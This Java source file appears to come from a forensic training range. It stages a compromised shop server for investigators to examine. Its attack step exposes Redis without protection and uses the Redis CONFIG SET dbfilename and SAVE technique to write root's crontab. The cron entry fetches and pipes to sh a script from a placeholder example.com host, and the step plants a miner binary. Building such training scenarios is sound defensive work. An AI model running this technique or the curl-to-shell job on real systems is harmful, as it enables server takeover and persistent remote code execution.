package davy.range.plant;

import davy.range.Command;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

/// A flash sale dies every evening: Redis on all addresses, without a password, wrote root's
/// crontab.
final class OpenRedisScene implements Scene {
    @Override
    public String name() {
        return "open-redis";
    }

    @Override
    public void live(Ground ground) {
        var now = Instant.now();
        ground.account("shop", "!", "/bin/bash");
        var logs = new Logs(ground, "shop-1");
        logs.administrator("/var/log/auth.log", now, "shop", "192.0.2.10");
        logs.noise("/var/log/auth.log", now);
        ground.write(
                "/etc/redis/redis.conf",
                """
                bind 127.0.0.1 -::1
                protected-mode yes
                port 6380
                daemonize yes
                dir /var/lib/redis
                """);
        ground.write(
                "/etc/iptables/rules.v4",
                """
                *filter
                :INPUT DROP [0:0]
                -A INPUT -i lo -j ACCEPT
                -A INPUT -m state --state RELATED,ESTABLISHED -j ACCEPT
                -A INPUT -p tcp -m tcp --dport 22 -j ACCEPT
                -A INPUT -p tcp -m tcp --dport 443 -j ACCEPT
                COMMIT
                """);
        ground.write("/srv/shop/application.yml", "server:\n  port: 8443\n");
    }

    @Override
    public Outcome attack(Ground ground, Path beside) {
        ground.replaceIn("/etc/redis/redis.conf", "bind 127.0.0.1 -::1", "bind 0.0.0.0");
        ground.replaceIn("/etc/redis/redis.conf", "protected-mode yes", "protected-mode no");
        ground.replaceIn(
                "/etc/iptables/rules.v4",
                "COMMIT",
                "-A INPUT -p tcp -m tcp --dport 6380 -j ACCEPT\nCOMMIT");
        String job =
                "*/5 19-23,0-7 * * * curl -fsSL https://"
                        + ground.word()
                        + ".example.com/api/report?pm="
                        + ground.dice.hex(4)
                        + " | sh";
        String table = ground.write("/var/spool/cron/crontabs/root", dump(beside, job));
        ground.mode(table, "rw-------");
        String miner = ground.program("/var/tmp/minerd", SelfReplicatorScene.miner(ground));
        return new Outcome(
                List.of(new Story("redis", List.of(table, miner, "/etc/redis/redis.conf"))),
                List.of());
    }

    /// What a real server writes when told to keep its data where cron looks.
    private static byte[] dump(Path beside, String job) {
        try {
            Files.createDirectories(beside);
            Path socket = beside.resolve("s");
            Path server = beside.resolve("redis-server");
            Path program = Path.of("/usr/bin/redis-check-rdb");
            if (!Files.isExecutable(program)) {
                throw new IllegalStateException("needs Debian's redis-tools");
            }
            // One program under two names, as Debian's own link has it.
            Files.createSymbolicLink(server, program);
            var process =
                    new ProcessBuilder(
                                    server.toString(),
                                    "--port",
                                    "0",
                                    "--unixsocket",
                                    socket.toString(),
                                    "--enable-protected-configs",
                                    "yes",
                                    "--save",
                                    "",
                                    "--dir",
                                    beside.toString())
                            .redirectErrorStream(true)
                            .redirectOutput(beside.resolve("redis.out").toFile())
                            .start();
            try {
                for (int i = 0; i < 100 && !Files.exists(socket); i++) {
                    Thread.sleep(50);
                }
                var cli = List.of("redis-cli", "-s", socket.toString());
                redis(cli, "SET", "x", "\n\n" + job + "\n\n");
                redis(cli, "CONFIG", "SET", "dbfilename", "root");
                redis(cli, "SAVE");
            } finally {
                process.destroy();
                process.waitFor();
            }
            return Files.readAllBytes(beside.resolve("root"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private static void redis(List<String> cli, String... command) {
        var all = new ArrayList<>(cli);
        all.addAll(List.of(command));
        String answer = Command.run(all, Map.of(), Duration.ofSeconds(20)).orThrow("redis-cli");
        if (!answer.strip().equals("OK")) {
            throw new IllegalStateException("redis-cli: " + answer);
        }
    }
}
